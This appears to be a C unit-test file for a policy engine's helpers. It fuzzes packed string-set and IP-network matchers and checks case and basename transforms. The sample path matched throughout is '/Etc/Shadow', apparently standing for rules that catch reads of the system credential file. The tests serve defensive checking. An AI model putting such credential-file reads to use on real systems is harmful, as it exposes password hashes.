		uint64_t args[ABI_MAX_ARGS] = { rnd(&seed) % 2 ? IP4 : IP6, (uint64_t)(uintptr_t)set, bytes };

		for (size_t i = 0; i < bytes; i++) /* mostly small numbers where counts and offsets are */
			set[i] = rnd(&seed) % 4 && i % 4 ? 0 : (uint8_t)(rnd(&seed) % 8 ? rnd(&seed) % 70 : rnd(&seed));
		for (size_t i = 0; i < countof(ids); i++)
			CHECK_EQ(ask_set(ids[i], s, set, bytes) & ~1, 0);
		CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_ip_in_net), &env, args) & ~1ull, 0);
		free(set);
	}
}

TEST(a_cut_set_answers_no_instead_of_reading_on)
{
	struct helper_str strs[] = { S("a"), S("b"), S("c") };
	struct buf b;

	buf_init(&b, 1 << 16);
	CHECK_OK(helper_pack_set(strs, 3, &b));
	for (size_t cut = 1; cut < b.len; cut++) {
		uint8_t *set = memcpy(malloc(cut), b.p, cut);

		CHECK_EQ(ask_set(ABI_HELPER_str_in, (struct helper_str){ "c", 1 }, set, cut), 0);
		CHECK_EQ(ask_set(ABI_HELPER_str_startswith_in, (struct helper_str){ "c", 1 }, set, cut), 0);
		free(set);
	}
	buf_done(&b);
}

/* --- addresses --- */

/* A question about "/Etc/Shadow", packed. */
static int64_t ask_question(const struct helper_question *q)
{
	struct buf b;
	int64_t r;

	buf_init(&b, 1 << 16);
	helper_pack_question(q, &b);
	r = ask_set(ABI_HELPER_str_ask, (struct helper_str)S("/Etc/Shadow"), b.p, b.len);
	buf_done(&b);
	return r;
}

TEST(questions_transform_the_string_and_count_the_literals)
{
	static const struct helper_str both[] = { S("/Etc"), S("/Etc/S") }, one[] = { S("/Etc"), S("/x") },
				       low[] = { S("shadow") }, up[] = { S("/ETC/SHADOW") }, name[] = { S("Shadow") };
	static const struct {
		struct helper_question q;
		bool want;
	} rows[] = {
		{ { ABI_HELPER_str_startswith, 0, HELPER_ANY, false, both, 2 }, 1 },
		{ { ABI_HELPER_str_startswith, 0, HELPER_ALL, false, both, 2 }, 1 },
		{ { ABI_HELPER_str_startswith, 0, HELPER_ONE, false, both, 2 }, 0 },
		{ { ABI_HELPER_str_startswith, 0, HELPER_ALL, false, one, 2 }, 0 },
		{ { ABI_HELPER_str_startswith, 0, HELPER_ONE, false, one, 2 }, 1 },
		{ { ABI_HELPER_str_startswith, 0, HELPER_ONE, true, one, 2 }, 1 },
		{ { ABI_HELPER_str_startswith, 0, HELPER_ANY, true, both, 2 }, 0 },
		{ { ABI_HELPER_str_startswith, 0, HELPER_ALL, false, both, 0 }, 0 },
		{ { ABI_HELPER_str_eq, HELPER_LOWER | HELPER_BASENAME, HELPER_ANY, false, low, 1 }, 1 },
		{ { ABI_HELPER_str_eq, HELPER_UPPER, HELPER_ANY, false, up, 1 }, 1 },
		{ { ABI_HELPER_str_eq, HELPER_BASENAME, HELPER_ANY, false, name, 1 }, 1 },
		/* what is no question */
		{ { ABI_HELPER_str_eq, 8, HELPER_ANY, false, name, 1 }, 0 },
		{ { ABI_HELPER_str_eq, HELPER_BASENAME, 3, false, name, 1 }, 0 },
		{ { ABI_HELPER_str_cmp, HELPER_BASENAME, HELPER_ANY, false, name, 1 }, 0 },
		{ { ABI_HELPER_str_ask, HELPER_BASENAME, HELPER_ANY, true, name, 1 }, 0 },
		{ { 0, HELPER_BASENAME, HELPER_ANY, true, name, 1 }, 0 },
	};

	for (size_t i = 0; i < countof(rows); i++)
		CHECK_EQ(ask_question(&rows[i].q), rows[i].want);
	CHECK_EQ(ask(ABI_HELPER_str_len, SHADOW, 0, NULL, 0, 0), 11);
	CHECK_EQ(ask(ABI_HELPER_str_len, SHADOW, HELPER_BASENAME, NULL, 0, 0), 6);
	CHECK_EQ(ask(ABI_HELPER_str_len, EMPTY, HELPER_BASENAME, NULL, 0, 0), 0);
}

TEST(a_string_beyond_the_room_for_its_case_answers_no)
{
	enum { ROOM = 16384 };
	char *big = calloc(1, ROOM + 1);
	struct helper_str empty = S("");
	struct helper_question q = { ABI_HELPER_str_contains, HELPER_LOWER, HELPER_ANY, false, &empty, 1 };
	struct buf b;

	buf_init(&b, 1 << 10);
	helper_pack_question(&q, &b);
	CHECK_EQ(ask_set(ABI_HELPER_str_ask, (struct helper_str){ big, ROOM }, b.p, b.len), 1);
	CHECK_EQ(ask_set(ABI_HELPER_str_ask, (struct helper_str){ big, ROOM + 1 }, b.p, b.len), 0);
	buf_done(&b);
	free(big);
}

TEST(hostile_questions_answer_something_and_are_never_left)
{
	static const struct helper_str operands[] = { S("/Etc"), S(""), S("Shadow*") };
	uint64_t seed = 11;

	for (unsigned round = 0; round < 20000; round++) {
		struct helper_question q = { ABI_HELPER_str_eq + (uint32_t)(rnd(&seed) % 12),
					     (uint8_t)(rnd(&seed) % 8),
					     (uint8_t)(rnd(&seed) % 3),
					     rnd(&seed) % 2,
					     operands,
					     3 };
		struct buf b;
		uint8_t *exact;
		size_t len;
		int64_t r;

		buf_init(&b, 1 << 10);
		helper_pack_question(&q, &b);
		len = rnd(&seed) % 2 ? b.len : rnd(&seed) % (b.len + 1);
		exact = malloc(len + !len);
		memcpy(exact, b.p, len);
		for (uint64_t k = rnd(&seed) % 3; k && len; k--)
			exact[rnd(&seed) % len] = (uint8_t)rnd(&seed);
		r = ask_set(ABI_HELPER_str_ask, (struct helper_str)S("/Etc/Shadow"), exact, len);
		CHECK(r == 0 || r == 1);
		free(exact);
		buf_done(&b);
	}
}

TEST(addresses_are_compared_within_their_family)
{
	CHECK_EQ(ask_str(ABI_HELPER_ip_eq, IP4, "\x0a\x01\x02\x03", 4), 1);
	CHECK_EQ(ask_str(ABI_HELPER_ip_eq, IP4, "\x0a\x01\x02\x04", 4), 0);
	CHECK_EQ(ask_str(ABI_HELPER_ip_eq, IP4, values[IP6 - 1].p, 16), 0);
	CHECK_EQ(ask_str(ABI_HELPER_ip_eq, IP6, values[IP6 - 1].p, 16), 1);
	CHECK_EQ(ask_str(ABI_HELPER_ip_eq, IP6, "\x20\x01\x0d\xb8", 4), 0);
}

static bool naive_in_net(const struct helper_net *net, const uint8_t *addr, unsigned len)
{
	if (net->addr_len != len)
		return false;
	for (unsigned bit = 0; bit < net->prefix; bit++)
		if ((net->addr[bit / 8] ^ addr[bit / 8]) >> (7 - bit % 8) & 1)
			return false;
	return true;
}

TEST(networks_answer_bit_by_bit)
{
	uint64_t seed = 11;
	unsigned yes = 0;

	for (unsigned round = 0; round < 4000; round++) {
		struct helper_net nets[6] = { 0 };
		size_t n = rnd(&seed) % 7;
		uint8_t addr[16];
		struct buf b;

		buf_init(&b, 1 << 16);
		for (size_t i = 0; i < n; i++) {
			nets[i].addr_len = rnd(&seed) % 2 ? 4 : 16;
			nets[i].prefix = (uint8_t)(rnd(&seed) % (8u * nets[i].addr_len + 1));
			for (unsigned k = 0; k < 16; k++)
				nets[i].addr[k] = (uint8_t)(rnd(&seed) % 8 ? 0xaa : rnd(&seed));
		}
		helper_pack_nets(nets, n, &b);
		for (unsigned q = 0; q < 10; q++) {
			uint32_t len = rnd(&seed) % 2 ? 4 : 16;
			struct helper_value v = { .kind = HELPER_VALUE_IP, .len = len, .p = (const char *)addr };
			struct helper_env env = { .values = &v, .n_values = 1 };
			uint64_t args[ABI_MAX_ARGS] = { 1, (uint64_t)(uintptr_t)b.p, b.len };
			bool want = false;

			for (unsigned k = 0; k < 16; k++)
				addr[k] = (uint8_t)(rnd(&seed) % 8 ? 0xaa : rnd(&seed));
			for (size_t i = 0; i < n; i++)
				want |= naive_in_net(&nets[i], addr, len);
			CHECK_EQ(helper_call(helper_lookup(ABI_HELPER_ip_in_net), &env, args), want);
			yes += want;
		}
		buf_done(&b);
	}
	CHECK(yes > 1000);
}
